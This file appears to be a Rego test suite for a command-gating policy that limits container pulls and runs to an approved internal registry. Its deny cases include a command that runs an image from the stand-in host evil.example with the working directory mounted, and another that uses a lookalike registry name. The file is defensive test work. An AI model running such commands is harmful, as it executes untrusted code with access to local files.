package company.image_registry_test

import data.company.image_registry

test_denies if {
	every line in [
		"docker run alpine",
		"docker run --rm -it -v $PWD:/src evil.example/x:1 sh -c ls",
		"podman run registry.acme.example.evil.example/x",
		"docker create nginx",
		"docker pull nginx",
		"podman pull nginx",
		"nerdctl pull nginx",
		"docker image pull nginx",
		"sudo docker run nginx",
	] {
		count(image_registry.deny) > 0 with input as gate.event(line)
	}
}

test_asks_what_is_not_known if {
	every line in [`docker run "$IMAGE"`, `docker pull "$IMAGE"`] {
		count(image_registry.ask) > 0 with input as gate.event(line)
		count(image_registry.deny) == 0 with input as gate.event(line)
	}
}

test_passes if {
	every line in [
		"docker run --rm registry.acme.example/tools/lint:1 make lint",
		"docker pull registry.acme.example/base",
		"docker ps",
		"git pull origin",
		"helm pull chart",
		"docker rm -f web",
		"docker compose up",
		"echo docker run nginx",
	] {
		count(image_registry.deny) == 0 with input as gate.event(line)
		count(image_registry.ask) == 0 with input as gate.event(line)
	}
}

test_prefix_is_a_parameter if {
	count(image_registry.deny) == 0 with input as gate.event("docker run nginx")
		with data.gate.params.company.image_registry.prefix as ""
}
